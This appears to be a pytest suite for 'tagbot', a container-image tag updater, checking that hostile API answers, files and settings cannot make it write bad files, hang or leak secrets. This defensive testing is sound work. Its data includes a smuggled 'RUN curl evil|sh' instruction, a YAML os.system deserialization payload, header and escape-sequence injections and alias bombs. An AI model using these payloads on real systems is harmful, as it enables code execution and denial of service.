"""Hostile input, end to end: nothing an API, a file or a setting says makes tagbot write a bad
file, hang or crash. Each test is a reproducer from issue 10, run as a user (or an attacker)
would: through `main()`, against loopback servers."""

from __future__ import annotations

import json
import re
import os
import threading
import time
from collections.abc import Callable, Iterator
from datetime import datetime, timezone
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from types import SimpleNamespace

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tagbot.cli import main
from tagbot.config import Settings
from tagbot.errors import BadResponse
from tagbot.policy import decide
from tagbot.rewrite import apply_edits, edits_for
from tagbot.scan import (
    annotated, ansible, azure, bitbucket, buildkite, circleci, cloudbuild, compose, devcontainer, dockerfile, drone, gitlab,
    helm, jenkinsfile, kubernetes, kustomize, nomad, quadlet, terraform, workflows,
)
from tagbot.scan.model import Reference
from tagbot.scan.patterns import compiled, found_by
from tagbot.sources.model import Tag, TagList, checked
from tests.fakeapi import FakeTagsAPI, envelope, serving
from tests.loopback import serve
from tests.helpers import new_repository

GOOD = "sha256:" + "a" * 64
NEWER = "sha256:" + "b" * 64


def tags_body(*tags: dict) -> bytes:
    return envelope({"tags": list(tags)})


def tag(name: str, digest: str | None = NEWER, platforms: list[str] | None = None) -> dict:
    return {"name": name, "digest": digest, "size": 1, "platforms": platforms or ["linux/amd64", "linux/arm64"],
            "last_updated": "2026-08-01T00:00:00Z"}


def finishes(seconds: float, work: Callable[[], object]) -> object:
    """`work()`'s result, or a failed test if it has not finished within `seconds`."""
    result: list[object] = []
    failure: list[BaseException] = []

    def run() -> None:
        try:
            result.append(work())
        except BaseException as e:  # handed to the test thread
            failure.append(e)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"still running after {seconds} s"
    if failure:
        raise failure[0]
    return result[0]


@pytest.fixture
def api(tmp_path: Path) -> Iterator[FakeTagsAPI]:
    (tmp_path / "api").mkdir()
    with serving(FakeTagsAPI(tmp_path / "api")) as fake:
        yield fake


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, api: FakeTagsAPI) -> Path:
    monkeypatch.setattr("tagbot.sources.http.BACKOFF", 0.0)
    return new_repository({"tagbot.yaml": "rate_limit: 100\n"}, tmp_path, monkeypatch, api.url)


# --- 1. what a source answers is untrusted ------------------------------------------------------

@pytest.mark.parametrize(
    ("answered", "said"),
    [
        (tag("1.1.0", digest="sha256:" + "d" * 64 + " AS pwn\nRUN curl evil|sh"), "not a digest"),
        (tag("1.1.0", digest=""), "not a digest"),
        (tag("1.1.0", digest="md5:abc"), "not a digest"),
        (tag("1.1.0", digest="sha256:" + "D" * 64), "not a digest"),
        (tag("1." + "1" * 4000), "not a tag"),
        (tag("٧.٠.٥"), "not a tag"),  # Arabic-Indic digits: a version to Python, not to docker
        (tag("1" * 5000), "not a tag"),  # past Python's int() limit
        (tag("1.1.0", platforms=["linux/amd64\x1b[2J"]), "not a platform"),
    ],
)
def test_a_source_cannot_write_what_the_grammar_rejects(repo: Path, api: FakeTagsAPI, capsys, answered, said):
    dockerfile = f"FROM acme/evil:1.0.0@{GOOD}\nFROM acme/fine:1.0.0\n"
    (repo / "Dockerfile").write_text(dockerfile)
    api.bodies["acme/evil"] = tags_body(answered, tag("1.0.0", digest=GOOD))
    api.bodies["acme/fine"] = tags_body(tag("1.0.1"), tag("1.0.0"))
    assert main(["update", "--no-cache"]) == 2
    assert (repo / "Dockerfile").read_text() == dockerfile.replace("fine:1.0.0", "fine:1.0.1")  # the rest go on
    err = capsys.readouterr().err
    (line,) = [line for line in err.splitlines() if "acme/evil" in line]
    assert line.startswith(f"tagbot: error: docker.io/acme/evil: tagsapi {api.url} answered") and said in line
    assert all(line.startswith("tagbot: ") for line in err.splitlines())  # nothing injected as a line of its own
    assert "\x1b" not in err


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000 + b"]" * 100_000,  # deep enough to break a recursive JSON reader
        json.dumps({"success": True, "data": {"tags": [{"name": 7}]}, "message": "", "status": "ok", "meta": {}}).encode(),
        json.dumps({"success": True, "data": {"tags": [{"name": "1.1.0", "platforms": [1, 2]}]}}).encode(),
    ],
)
def test_a_bad_answer_is_that_images_error_and_the_run_goes_on(repo: Path, api: FakeTagsAPI, capsys, body):
    (repo / "Dockerfile").write_text("FROM acme/evil:1.0.0\nFROM acme/fine:1.0.0\n")
    api.bodies["acme/evil"] = body
    api.bodies["acme/fine"] = tags_body(tag("1.0.1"), tag("1.0.0"))
    assert main(["update", "--dry-run", "--no-cache"]) == 2
    captured = capsys.readouterr()
    assert "acme/fine  1.0.0  1.0.1" in captured.out
    assert "docker.io/acme/evil:" in captured.err and "Traceback" not in captured.err
    assert main(["explain", "acme/evil:1.0.0", "--no-cache"]) == 2  # explain says so in one line too
    assert capsys.readouterr().err.count("\n") == 1


def test_server_messages_lose_escapes_and_control_characters(repo: Path, api: FakeTagsAPI, capsys):
    (repo / "Dockerfile").write_text("FROM acme/loud:1.0.0\n")
    api.bodies["acme/loud"] = envelope(None, "\x1b[31mred alert\x1b[0m\x07\rrewritten line", success=False)
    assert main(["check", "--no-cache"]) == 2
    err = capsys.readouterr().err
    assert "the tags API answered: red alert  rewritten line" in err
    assert not any(c in err for c in "\x1b\x07\r")


# --- 2. writing through links, keeping owners -----------------------------------------------------

def updatable(repo: Path, api: FakeTagsAPI, name: str = "Dockerfile") -> str:
    api.bodies["acme/app"] = tags_body(tag("1.1.0"), tag("1.0.0"))
    return "FROM acme/app:1.0.0\n"


def test_a_linked_file_is_written_through_and_stays_a_link(repo: Path, api: FakeTagsAPI):
    (repo / "docker").mkdir()
    (repo / "docker" / "app.Dockerfile").write_text(updatable(repo, api))
    (repo / "Dockerfile").symlink_to("docker/app.Dockerfile")
    assert main(["update", "--no-cache"]) == 0
    assert (repo / "Dockerfile").is_symlink()
    assert (repo / "docker" / "app.Dockerfile").read_text() == "FROM acme/app:1.1.0\n"


def test_a_link_to_a_file_outside_the_folder_is_refused(repo: Path, api: FakeTagsAPI, tmp_path: Path, capsys):
    outside = tmp_path / "elsewhere.Dockerfile"
    outside.write_text(updatable(repo, api))
    (repo / "Dockerfile").symlink_to(outside)
    assert main(["update", "--no-cache", "Dockerfile"]) == 2
    assert outside.read_text() == "FROM acme/app:1.0.0\n" and (repo / "Dockerfile").is_symlink()
    # Named on the command line or found in a walk, it is not even read (issue 20).
    assert "tagbot: error: Dockerfile: skipped: a link to a file outside the repository" in capsys.readouterr().err


def test_a_link_to_a_file_elsewhere_in_the_repository_is_followed(repo: Path, api: FakeTagsAPI, capsys):
    # Issue 20: `tagbot update app` with app/Dockerfile -> ../real/Dockerfile said "up to date", 0 calls.
    (repo / "real").mkdir()
    (repo / "real" / "Dockerfile").write_text(updatable(repo, api))
    (repo / "app").mkdir()
    (repo / "app" / "Dockerfile").symlink_to("../real/Dockerfile")
    assert main(["update", "--no-cache", "app"]) == 0
    assert (repo / "app" / "Dockerfile").is_symlink()
    assert (repo / "real" / "Dockerfile").read_text() == "FROM acme/app:1.1.0\n"
    assert "app/Dockerfile:1" in capsys.readouterr().out


def test_a_link_leaving_the_repository_is_reported_not_dropped(repo: Path, api: FakeTagsAPI, tmp_path: Path, capsys):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "Dockerfile").write_text(updatable(repo, api))
    (repo / "app").mkdir()
    (repo / "app" / "Dockerfile").symlink_to(outside / "Dockerfile")
    assert main(["scan", "app"]) == 2
    err = capsys.readouterr().err
    assert "tagbot: error: app/Dockerfile: skipped: a link to a file outside the repository" in err
    assert (outside / "Dockerfile").read_text() == "FROM acme/app:1.0.0\n"


def test_a_hard_linked_file_is_refused_not_split(repo: Path, api: FakeTagsAPI, tmp_path: Path, capsys):
    (repo / "Dockerfile").write_text(updatable(repo, api))
    os.link(repo / "Dockerfile", tmp_path / "other-name")
    assert main(["update", "--no-cache"]) == 2
    assert (repo / "Dockerfile").stat().st_ino == (tmp_path / "other-name").stat().st_ino
    assert (tmp_path / "other-name").read_text() == "FROM acme/app:1.0.0\n"
    assert "Dockerfile: not written: it has 2 hard links, which replacing it would split" in capsys.readouterr().err


def test_mode_owner_and_group_are_kept(repo: Path, api: FakeTagsAPI):
    path = repo / "Dockerfile"
    path.write_text(updatable(repo, api))
    path.chmod(0o640)
    owner = (65534, 65534) if os.getuid() == 0 else (os.getuid(), os.getgid())
    if os.getuid() == 0:
        os.chown(path, *owner)  # as root, a file of another user must stay theirs
    assert main(["update", "--no-cache"]) == 0
    info = path.stat()
    assert (path.read_text(), info.st_mode & 0o7777, (info.st_uid, info.st_gid)) == ("FROM acme/app:1.1.0\n", 0o640, owner)


# --- 3. secrets ----------------------------------------------------------------------------------

def test_a_key_that_cannot_be_a_header_is_refused_without_showing_it(repo: Path, monkeypatch, capsys):
    (repo / "Dockerfile").write_text("FROM acme/app:1.0.0\n")
    monkeypatch.setenv("OANOR_API_KEY", "sk-ключ-42")
    assert main(["check", "--no-cache"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("tagbot: error: OANOR_API_KEY holds characters an API key cannot have")
    assert "ключ" not in err and "sk-" not in err and "Traceback" not in err


def test_a_key_pasted_with_its_line_break_works(repo: Path, api: FakeTagsAPI, monkeypatch):
    (repo / "Dockerfile").write_text(updatable(repo, api))
    monkeypatch.setenv("OANOR_API_KEY", api.key + "\n")
    assert main(["check", "--no-cache"]) == 1


def test_credentials_in_the_api_url_are_never_stored(repo: Path, api: FakeTagsAPI, tmp_path: Path, monkeypatch):
    (repo / "Dockerfile").write_text(updatable(repo, api))
    monkeypatch.setenv("TAGBOT_API_URL", api.url.replace("http://", "http://user:hunter2@"))
    assert main(["check"]) == 1
    stored = b"".join(p.read_bytes() for p in (tmp_path / "cache").rglob("*") if p.is_file())
    assert stored and b"hunter2" not in stored and b"user:" not in stored


# --- 4-7. hangs and blow-ups ----------------------------------------------------------------------

def test_a_named_pipe_is_never_opened(repo: Path, capsys):
    os.mkfifo(repo / "Dockerfile")
    (repo / "compose.yaml").write_text("services:\n  a:\n    image: redis:7\n")
    assert finishes(10, lambda: main(["scan"])) == 2
    captured = capsys.readouterr()
    assert "redis" in captured.out
    assert "tagbot: error: Dockerfile: cannot read: not a regular file" in captured.err
    assert finishes(10, lambda: main(["scan", "Dockerfile"])) == 2  # named on the command line too


@pytest.mark.parametrize("part", ["store.sqlite3", "store.sqlite3-wal"])
def test_a_named_pipe_or_a_link_in_the_store_is_never_opened(repo: Path, api: FakeTagsAPI, tmp_path: Path, part: str):
    (repo / "Dockerfile").write_text(updatable(repo, api))
    assert main(["check"]) == 1
    store = tmp_path / "cache" / "tagbot"
    for suffix in ("", "-wal", "-shm"):
        (store / f"store.sqlite3{suffix}").unlink(missing_ok=True)
    os.mkfifo(store / part)
    assert finishes(10, lambda: main(["check"])) == 1
    victim = tmp_path / "victim"
    victim.write_bytes(b"someone else's file")
    for suffix in ("", "-wal", "-shm"):
        (store / f"store.sqlite3{suffix}").unlink(missing_ok=True)
    (store / part).symlink_to(victim)
    assert main(["check"]) == 1
    assert victim.read_bytes() == b"someone else's file"  # the link was removed, never written through
    assert (store / "store.sqlite3").is_file() and not (store / "store.sqlite3").is_symlink()


def test_an_unreadable_folder_is_an_error_not_a_blind_spot(repo: Path, monkeypatch, capsys):
    (repo / "tagbot.yaml").write_text("forbid_tags: [latest]\n")
    (repo / "secret").mkdir()
    (repo / "secret" / "Dockerfile").write_text("FROM redis:latest\n")
    (repo / "secret").chmod(0)
    if os.getuid() == 0:  # root reads any folder: make this one fail as it would for anyone else
        real = os.scandir
        monkeypatch.setattr("tagbot.scan.files.os.scandir",
                            lambda p: (_ for _ in ()).throw(PermissionError(13, "Permission denied"))
                            if str(p).endswith("secret") else real(p))
    try:
        assert main(["check", "--hook"]) == 2
    finally:
        (repo / "secret").chmod(0o755)
    assert "tagbot: error: secret: cannot read the folder: Permission denied" in capsys.readouterr().err


def test_merge_key_towers_and_cycles_finish(repo: Path, capsys):
    (repo / "compose.yaml").write_text("x-a: &a {<<: [*a, *a]}\n")
    assert finishes(10, lambda: main(["scan"])) == 0
    tower = "x-a0: &a0 {image: redis:7}\n" + "".join(
        f"x-a{i}: &a{i} {{<<: [*a{i - 1}, *a{i - 1}]}}\n" for i in range(1, 40)) + "services:\n  s: {<<: *a39}\n"
    (repo / "compose.yaml").write_text(tower)
    capsys.readouterr()
    assert finishes(10, lambda: main(["scan", "--format", "json"])) == 0
    assert [r["text"] for r in json.loads(capsys.readouterr().out)["references"]] == ["redis:7"]


# A manifest, like Helm values, reads every key named image: both of a0's.
@pytest.mark.parametrize(("name", "count"), [("values.yaml", 2), ("deploy.yaml", 2), (".gitlab-ci.yml", 1),
                                             ("kustomization.yaml", 1)])
def test_alias_bombs_finish_in_every_yaml_kind(repo: Path, capsys, name: str, count: int):
    """Ten levels of ten aliases name a billion nodes; each is read once, where it is written."""
    bomb = "a0: &a0 {image: 'redis:7', containers: [{image: 'redis:7'}]}\n" + "".join(
        f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 10))
    (repo / name).write_text("apiVersion: v1\nkind: List\nimages: [{name: redis, newTag: '7'}]\n" + bomb)
    assert finishes(10, lambda: main(["scan", "--format", "json"])) == 0
    references = json.loads(capsys.readouterr().out)["references"]
    assert [(r["file"], r["text"]) for r in references if r["file"] == name] == [(name, "redis:7")] * count


def test_a_doubling_arg_chain_is_a_variable_not_five_gigabytes(repo: Path, capsys):
    lines = ["ARG A0=x"] + [f"ARG A{i}=${{A{i - 1}}}${{A{i - 1}}}" for i in range(1, 31)] + ["FROM redis:${A30}"]
    (repo / "Dockerfile").write_text("\n".join(lines) + "\n")
    assert finishes(10, lambda: main(["scan", "--format", "json"])) == 0
    (reference,) = json.loads(capsys.readouterr().out)["references"]
    assert reference["skip_reason"] == "variable"


@pytest.mark.parametrize(
    "text",
    [
        "FROM \\\n" * 20_000 + "x\n",
        "FROM a:1 \\\n" + "--x=1 \\\n" * 20_000 + "\n",
        "ARG " + "A=1 \\\n" * 20_000 + "\n",
    ],
)
def test_long_continued_instructions_finish(repo: Path, text: str):
    (repo / "Dockerfile").write_text(text)
    finishes(20, lambda: main(["scan"]))  # quadratic, these took minutes; bench/scan.py times them


# --- 8. responses: size and deadline --------------------------------------------------------------

class Misbehaving(BaseHTTPRequestHandler):
    mode = "huge"

    def do_GET(self) -> None:  # noqa: N802
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        if self.mode == "huge":  # 50 MB, no Content-Length to refuse it by
            chunk = b" " * (1024 * 1024)
            for _ in range(50):
                self.wfile.write(chunk)
        else:  # one byte at a time, each well within any read time-out
            for _ in range(200):
                self.wfile.write(b" ")
                self.wfile.flush()
                time.sleep(0.05)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.mark.parametrize(("mode", "said"), [("huge", "answered more than 20 MB; not read"),
                                             ("trickle", "took longer than 0.5 s to answer")])
def test_answers_are_capped_in_size_and_time(repo: Path, monkeypatch, capsys, mode, said):
    monkeypatch.setattr("tagbot.sources.http.REQUEST_DEADLINE", 0.5)
    handler = type("Handler", (Misbehaving,), {"mode": mode})
    (repo / "Dockerfile").write_text("FROM acme/app:1.0.0\n")
    with serve(handler) as url:
        monkeypatch.setenv("TAGBOT_API_URL", url)
        started = time.monotonic()
        assert main(["check", "--no-cache"]) == 2
        assert time.monotonic() - started < 30
    assert said in capsys.readouterr().err


# --- 10. settings ----------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("config", "said"),
    [
        ("rate_limit: .inf\n", "tagbot.yaml:1: error: rate_limit: expected a positive number up to 1000, got inf"),
        ("cache_ttl: 99999999999999999999w\n", "tagbot.yaml:1: error: cache_ttl: '99999999999999999999w' is longer than ten years"),
        ("min_age: 9999999999999999d\n", "tagbot.yaml:1: error: min_age: '9999999999999999d' is longer than ten years"),
        ("min_age: !!python/object/apply:os.system ['true']\n", "tagbot.yaml:1: error: min_age: could not determine a constructor"),
        ("rules: " + "[" * 5000 + "]" * 5000 + "\n", "tagbot.yaml: invalid YAML: nested too deep"),
        ("min_age: {a: &a [x, x, x, x, x, x, x, x, x], b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a],\n"
         "  c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b], d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c],\n"
         "  e: [*d, *d, *d, *d, *d, *d, *d, *d, *d]}\n",
         "tagbot.yaml:1: error: min_age: expands to more than 10,000 values"),
        ("api_url: 'http://[::1'\n", "tagbot.yaml:1: error: api_url: expected an http:// or https:// URL"),
        ('api_url: "http://a.example\\nHost: evil"\n', "tagbot.yaml:1: error: api_url: expected a URL without spaces"),
    ],
)
def test_bad_settings_are_one_line_naming_the_setting(repo: Path, capsys, config: str, said: str):
    (repo / "tagbot.yaml").write_text(config)
    (repo / "Dockerfile").write_text("FROM acme/app:1.0.0\n")
    assert finishes(10, lambda: main(["check", "--no-cache"])) == 2
    err = capsys.readouterr().err
    # A setting's line is the place a line starts with (`file:line: error: ...`), as compilers print it.
    assert err.startswith(said if re.match(r"tagbot\.yaml:\d+: ", said) else f"tagbot: error: {said}"), err
    assert err.count("\n") == 1


@pytest.mark.parametrize(
    ("args", "env", "said"),
    [
        (["--api-url", "http://[::1"], {}, "--api-url: expected an http:// or https:// URL (this one does not parse)"),
        (["--api-url", ""], {}, "--api-url: expected an http:// or https:// URL"),
        ([], {"TAGBOT_API_URL": "http://a.example\nx"}, "TAGBOT_API_URL: expected a URL without spaces or control characters"),
        ([], {"TAGBOT_API_URL": "ftp://a.example"}, "TAGBOT_API_URL: expected an http:// or https:// URL"),
    ],
)
def test_the_api_url_from_a_flag_or_the_environment_is_checked_too(repo: Path, monkeypatch, capsys, args, env, said):
    (repo / "Dockerfile").write_text("FROM acme/app:1.0.0\n")
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    assert main(["check", "--no-cache", *args]) == 2
    assert capsys.readouterr().err == f"tagbot: error: {said}\n"


# --- 12, 15. lost or wrong results ----------------------------------------------------------------

def test_a_file_edited_during_the_lookups_is_left_alone(repo: Path, api: FakeTagsAPI, monkeypatch, capsys):
    (repo / "Dockerfile").write_text(updatable(repo, api))
    api.bodies["acme/other"] = tags_body(tag("1.1.0"), tag("1.0.0"))
    import tagbot.run

    real = tagbot.run.look_up_tags

    def edit_then_look_up(*args, **kwargs):
        # The tag's own characters stay; the image they belong to changes.
        (repo / "Dockerfile").write_text("FROM acme/other:1.0.0\n")
        return real(*args, **kwargs)

    monkeypatch.setattr(tagbot.run, "look_up_tags", edit_then_look_up)
    assert main(["update", "--no-cache"]) == 2
    assert (repo / "Dockerfile").read_text() == "FROM acme/other:1.0.0\n"
    assert "Dockerfile: the file changed since the scan; left as it is" in capsys.readouterr().err


def test_no_digest_is_pinned_to_a_reference_a_variable_can_rename(repo: Path, api: FakeTagsAPI, capsys):
    api.bodies["redis"] = tags_body(tag("8.10", digest=GOOD))
    compose = "services:\n  cache:\n    image: ${IMG:-redis:8.10}\n  plain:\n    image: redis:8.10\n"
    (repo / "compose.yaml").write_text(compose)
    (repo / "tagbot.yaml").write_text("rate_limit: 100\npin_digests: true\n")
    assert main(["update", "--no-cache"]) == 0
    assert (repo / "compose.yaml").read_text() == compose.replace("image: redis:8.10", f"image: redis:8.10@{GOOD}")
    out = capsys.readouterr().out
    assert "compose.yaml:3:19: redis: held back: not pinned: the reference is built from variables" in out


# --- properties: no answer makes a write tagbot's own scanner rejects -----------------------------

FILES = {
    "dockerfile": (dockerfile, f"ARG V=1.0.0\nFROM acme/app:1.0.0@{GOOD} AS a\nFROM acme/app:${{V}}-alpine\n"),
    "compose": (compose, f"services:\n  a:\n    image: \"acme/app:1.0.0@{GOOD}\"\n  b:\n    image: acme/app:1.0.0-alpine\n"),
    "kubernetes": (kubernetes, f"apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: acme/app:1.0.0@{GOOD}\n"
                               "  - image: 'acme/app:1.0.0-alpine'\n"),
    # A custom resource's own field, and a ConfigMap's block of YAML (its lines placed in the file).
    "kubernetes-cr": (kubernetes, f"apiVersion: x/v1\nkind: Thing\nspec:\n  image: acme/app:1.0.0@{GOOD}\n"
                                  "  sidecarImage: \"acme/app:1.0.0-alpine\"\n"),
    "kubernetes-block": (kubernetes, f"apiVersion: v1\nkind: ConfigMap\ndata:\n  c.yaml: |\n    a:\n"
                                     f"      image: acme/app:1.0.0@{GOOD}\n    b: {{image: 'acme/app:1.0.0-alpine'}}\n"),
    "helm": (helm, f"a:\n  image:\n    repository: acme/app\n    tag: 1.0.0\n    digest: {GOOD}\n"
                   "b:\n  image: {repository: acme/app, tag: '1.0.0-alpine'}\n"),
    "kustomize": (kustomize, f"images:\n- name: acme/app\n  newTag: 1.0.0\n  digest: {GOOD}\n"
                             "- name: x\n  newName: acme/app\n  newTag: \"1.0.0-alpine\"\n"
                             "patches:\n- patch: |-\n    - op: replace\n      path: /spec/containers/0/image\n"
                             "      value: acme/app:1.0.0-alpine\n"),
    "gitlab": (gitlab, f"variables: {{V: 1.0.0}}\nimage: acme/app:$V@{GOOD}\nservices: ['acme/app:1.0.0-alpine']\n"),
    "workflow": (workflows, f"jobs:\n  a:\n    container: acme/app:1.0.0@{GOOD}\n    steps:\n"
                            "    - uses: docker://acme/app:1.0.0-alpine\n"),
    "circleci": (circleci, f"jobs:\n  a:\n    docker:\n      - image: acme/app:1.0.0@{GOOD}\n"
                           "      - image: 'acme/app:1.0.0-alpine'\n"),
    "bitbucket": (bitbucket, f"image: {{name: 'acme/app:1.0.0@{GOOD}', username: $U}}\npipelines:\n  default:\n"
                             "    - step: {image: acme/app:1.0.0-alpine}\n"),
    "azure": (azure, f"resources:\n  containers:\n  - container: a\n    image: acme/app:1.0.0@{GOOD}\n"
                     "jobs:\n- job: b\n  container: \"acme/app:1.0.0-alpine\"\n"),
    "drone": (drone, f"steps:\n- name: a\n  image: acme/app:1.0.0@{GOOD}\n---\nsteps:\n- name: b\n"
                     "  image: acme/app:1.0.0-alpine\n"),
    "cloudbuild": (cloudbuild, f"steps:\n- name: acme/app:1.0.0@{GOOD}\n- name: 'acme/app:1.0.0-alpine'\n"),
    "jenkinsfile": (jenkinsfile, f"pipeline {{ agent {{ docker {{ image 'acme/app:1.0.0@{GOOD}' }} }} }}\n"
                                 "node { docker.image(\"acme/app:1.0.0-alpine\").inside {} }\n"),
    "devcontainer": (devcontainer, f'{{"image": "acme/app:1.0.0@{GOOD}", // c\n "features": {{"ghcr.io/acme/app:1.0.0-alpine": {{}},}}}}'),
    "buildkite": (buildkite, f"steps:\n- plugins:\n  - docker#v5.11.0: {{image: 'acme/app:1.0.0@{GOOD}'}}\n"
                             "- image: acme/app:1.0.0-alpine\n"),
    "quadlet": (quadlet, f"[Container]\r\nImage=acme/app:1.0.0@{GOOD}\r\n[Image]\r\nImage=acme/app:1.0.0-alpine\r\n"),
    "terraform": (terraform, f'resource "docker_image" "a" {{\n  name = "acme/app:1.0.0@{GOOD}"\n}}\n'
                             'resource "nomad_job" "b" {\n  jobspec = <<-EOT\n    config { image = "acme/app:1.0.0-alpine" }\n'
                             '  EOT\n}\n'),
    "nomad": (nomad, f'task "a" {{ config {{ image = "acme/app:1.0.0@{GOOD}" }} }}\n'
                     'variable "image" { default = "acme/app:1.0.0-alpine" }\n'),
    "ansible": (ansible, f"- community.docker.docker_container: {{name: a, image: 'acme/app:1.0.0@{GOOD}'}}\n"
                         "- docker_image: {name: acme/app, tag: 1.0.0-alpine}\n"),
    "annotated": (annotated, f"# tagbot: image\nBASE=acme/app:1.0.0@{GOOD}\n# tagbot: image=acme/app\nV=1.0.0-alpine\n"),
    "pattern": (SimpleNamespace(extract=lambda text: found_by(compiled("patterns[0]", ["f"], PATTERN, None), text, "f")),
                f"a: acme/app:1.0.0@{GOOD} # image\nb: acme/app:1.0.0-alpine # image\n"),
}
PATTERN = r"(?P<image>[\w./-]+):(?P<tag>[\w.-]+)(?:@(?P<digest>sha256:[0-9a-f]+))?\s+# image"
versions = st.builds(lambda a, b, c, s: f"{a}.{b}.{c}{s}", st.integers(0, 3), st.integers(0, 12), st.integers(0, 12),
                     st.sampled_from(["", "-alpine", "-rc1"]))
names = st.one_of(versions, st.text(min_size=0, max_size=12), st.text(alphabet="0123456789٧٠.-_:@ \n", max_size=12))
digests = st.one_of(st.none(), st.just(NEWER), st.text(max_size=80),
                    st.builds(lambda h: "sha256:" + h, st.text(alphabet="0123456789abcdefABCDEF \n", min_size=60, max_size=66)))
platform_lists = st.lists(st.one_of(st.sampled_from(["linux/amd64", "linux/arm64", "linux/arm/v7"]), st.text(max_size=12)),
                          max_size=3)
answers = st.lists(st.builds(lambda n, d, p: Tag(n, d, frozenset(p), 1, datetime(2026, 1, 1, tzinfo=timezone.utc)),
                             names, digests, platform_lists), min_size=1, max_size=8)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(kind=st.sampled_from(sorted(FILES)), tags=answers, pin=st.booleans())
def test_no_answer_makes_a_write_the_scanner_rejects(kind: str, tags: list[Tag], pin: bool):
    scanner, text = FILES[kind]
    try:
        answer = checked(TagList(tuple(tags)), "a source")
    except BadResponse:
        return  # that image's error: nothing of it is used
    config = Settings(pin_digests=pin, platforms="current")
    edits = []
    for found in scanner.extract(text):
        assert found.image is not None
        decision = decide(found.image, answer.tags, config, now=datetime(2026, 8, 1, tzinfo=timezone.utc))
        if decision.update is not None:
            edits += edits_for(Reference("f", kind, 1, 1, found), decision.update)
    written = apply_edits(text, edits)
    rescanned = scanner.extract(written)
    assert len(rescanned) == len(scanner.extract(text))
    assert all(f.image is not None and f.skip_reason is None for f in rescanned), written


# --- issue 18: secrets go only where the environment agreed -------------------------------------

class Listener:
    """A loopback server that answers every request 401 with a basic challenge (so a client
    holding credentials sends them on its second try) and records the headers it was sent."""

    def __init__(self) -> None:
        self.seen: list[dict[str, str]] = []

    def handler(self, *args: object) -> BaseHTTPRequestHandler:
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                listener.seen.append({k.lower(): v for k, v in self.headers.items()})
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="x"')
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, format: str, *args: object) -> None:
                pass

        return Handler(*args)  # type: ignore[arg-type]

    def secrets_seen(self, *secrets: str) -> list[str]:
        return [v for headers in self.seen for v in headers.values() for s in secrets
                if s in v or s in _decoded(v)]


def _decoded(value: str) -> str:
    import base64
    import binascii

    try:
        return base64.b64decode(value.split()[-1]).decode("utf-8", "replace")
    except (binascii.Error, ValueError, IndexError):
        return ""


@pytest.fixture
def listener() -> Iterator[tuple[Listener, str]]:
    found = Listener()
    with serve(found.handler) as url:
        yield found, url


@pytest.mark.parametrize("variable", ["OANOR_API_KEY", "GITHUB_TOKEN", "GH_TOKEN", "ACTIONS_RUNTIME_TOKEN"])
def test_auth_env_may_not_name_tagbots_own_secrets(repo: Path, listener, monkeypatch, capsys, variable: str):
    found, url = listener
    monkeypatch.setenv(variable, "s3cret-value")
    (repo / "tagbot.yaml").write_text(
        f'registries: {{ghcr.io: {{source: registry, url: "{url}", auth_env: {variable}}}}}\n')
    (repo / "Dockerfile").write_text("FROM ghcr.io/acme/app:1.0\n")
    assert main(["check", "--no-cache"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("tagbot.yaml:1: error: registries: ghcr.io: auth_env may not name") and variable in err
    assert found.seen == [] and "s3cret-value" not in err


def test_registry_credentials_go_only_to_their_own_host(repo: Path, listener, monkeypatch, capsys):
    found, url = listener
    monkeypatch.setenv("GHCR_TOKEN", "ghcr-secret")
    (repo / "Dockerfile").write_text("FROM ghcr.io/acme/app:1.0\n")
    (repo / "tagbot.yaml").write_text(f'registries: {{ghcr.io: {{source: registry, url: "{url}", auth_env: GHCR_TOKEN}}}}\n')
    assert main(["check", "--no-cache"]) == 2
    err = capsys.readouterr().err
    assert "tagbot.yaml:1: error: registries: ghcr.io: auth_env credentials go only to ghcr.io itself" in err
    assert found.seen == []
    # Credentials the environment keeps for ghcr.io (docker login) do not follow a url elsewhere either.
    docker = repo.parent / "docker"
    docker.mkdir()
    import base64
    (docker / "config.json").write_text(json.dumps({"auths": {"ghcr.io": {"auth": base64.b64encode(b"me:ghcr-secret").decode()}}}))
    monkeypatch.setenv("DOCKER_CONFIG", str(docker))
    (repo / "tagbot.yaml").write_text(f'registries: {{ghcr.io: {{source: registry, url: "{url}"}}}}\n')
    assert main(["check", "--no-cache"]) == 2
    assert found.seen and found.secrets_seen("ghcr-secret") == []


def test_credentials_go_to_a_loopback_registry_over_plain_http(repo: Path, listener, monkeypatch):
    found, url = listener
    host = httpx.URL(url).netloc.decode()
    monkeypatch.setenv("LOCAL_TOKEN", "me:local-secret")
    (repo / "Dockerfile").write_text(f"FROM {host}/acme/app:1.0\n")
    (repo / "tagbot.yaml").write_text(f"registries: {{'{host}': {{source: registry, insecure: true, auth_env: LOCAL_TOKEN}}}}\n")
    assert main(["check", "--no-cache"]) == 2  # still refused by this listener, but asked properly
    assert found.secrets_seen("local-secret")  # to its own host, on this machine


def test_a_config_api_url_on_another_host_gets_no_key(repo: Path, listener, monkeypatch, capsys):
    found, url = listener
    monkeypatch.delenv("TAGBOT_API_URL")
    (repo / "tagbot.yaml").write_text(f"api_url: {url}/docker-api\n")
    (repo / "Dockerfile").write_text("FROM acme/app:1.0\n")
    assert main(["check", "--no-cache"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("tagbot: error: tagbot.yaml: api_url: ") and "TAGBOT_API_URL" in err
